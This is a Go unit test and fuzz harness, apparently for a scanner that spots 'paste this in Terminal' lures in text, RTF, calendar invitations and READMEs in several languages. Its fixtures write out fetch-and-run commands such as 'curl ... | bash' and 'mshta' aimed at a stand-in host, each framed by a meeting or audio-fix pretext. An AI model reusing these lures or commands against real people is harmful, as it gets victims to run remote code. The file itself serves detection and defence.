package script

import "testing"

func TestInstructions(t *testing.T) {
	for name, tc := range map[string]struct {
		file, text string
		want       bool
	}{
		"note":            {"HOW TO JOIN.txt", "How to join the call: open Terminal, paste this and press Return:\n\n/bin/bash -c \"$(curl -fsSL https://a.invalid/j)\"\n", true},
		"German":          {"Anleitung.txt", "Ihr Mikrofon wird vom Gastgeber nicht erkannt. Öffnen Sie das Terminal und fügen Sie ein:\ncurl -s https://a.invalid/m | zsh\n", true},
		"Japanese":        {"a.txt", "会議に参加するには Windows キー + R を押して貼り付けます\n   mshta https://a.invalid/s\n", true},
		"rich text":       {"a.rtf", `{\rtf1\ansi Interview with us\par Open {\b Terminal} and paste:\par curl -sL https://a.invalid/v | bash\par }`, true},
		"invitation":      {"Due diligence.ics", "SUMMARY:Due diligence\nIf the audio fails, open Terminal and run: curl -sL https://a.invalid/fix | bash\n", true},
		"honest invite":   {"Release.ics", "SUMMARY:Release\nNotes and the recording: https://wiki.example.org/release\nRun make deploy at noon.\n", false},
		"read-me, story":  {"README.md", "Install the bridge **before** the call with our engineer:\n```sh\ncurl -fsSL https://a.invalid/i | sh\n```\n", true},
		"read-me":         {"README.md", "# talkd\nA server for meetings.\n```sh\ncurl -fsSL https://talkd.example.org/install.sh | sh\n```\n", false},
		"manual, no call": {"INSTALL.txt", "Open a terminal and paste:\ncurl -fsSL https://tool.example.org/install.sh | sh\n", false},
		"warning":         {"warning.txt", "Attackers ask you to join a call and to paste in Terminal:\ncurl -s https://a.invalid/m | zsh\n", false},
		"helpdesk":        {"reply.txt", "To join the call again open Terminal and run:\nsudo killall coreaudiod\n", false},
		"defanged":        {"notes.txt", "the host of the call had them run in Terminal:\ncurl -s hxxps://a[.]invalid/m | zsh\n", false},
	} {
		t.Run(name, func(t *testing.T) {
			s, _ := Instructions(tc.file, []byte(tc.text))
			if (s != nil) != tc.want {
				t.Fatalf("instructions %v, want %v", s != nil, tc.want)
			}
			if s != nil && (len(s.Fetches) == 0 || len(s.Pretexts) == 0) {
				t.Errorf("fetches %v, pretexts %v", s.Fetches, s.Pretexts)
			}
		})
	}
}

func FuzzInstructions(f *testing.F) {
	f.Add("a.txt", []byte("join the call: open Terminal\ncurl -s https://a.invalid/m | zsh\n"))
	f.Add("a.rtf", []byte(`{\rtf1 the call \par mshta https://a.invalid/\'e4\u8364?}`))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		if s, user := Instructions(name, data); s != nil && len(user) > maxBanner {
			t.Errorf("%d bytes of banner", len(user))
		}
	})
}
